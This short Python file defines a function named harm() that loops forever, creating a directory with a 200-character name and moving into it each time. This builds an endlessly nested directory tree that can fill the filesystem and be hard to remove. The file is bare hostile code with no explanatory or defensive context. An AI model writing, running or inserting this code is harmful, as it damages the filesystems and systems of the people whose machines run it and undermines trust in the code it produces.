import os


def harm():
    while True:
        os.mkdir('a' * 200)
        os.chdir('a' * 200)
